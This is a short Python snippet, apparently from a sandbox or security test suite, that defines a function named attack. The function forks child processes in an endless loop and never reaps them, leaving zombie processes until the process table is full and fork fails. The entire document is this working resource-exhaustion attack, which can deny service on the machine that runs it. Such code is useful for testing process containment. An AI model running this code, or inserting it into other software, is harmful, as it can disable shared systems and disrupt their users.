# Leaves as many zombies as it may.
def attack():
    import posix

    try:
        while True:
            if posix.fork() == 0:
                posix._exit(0)
    except OSError:
        pass
    return False
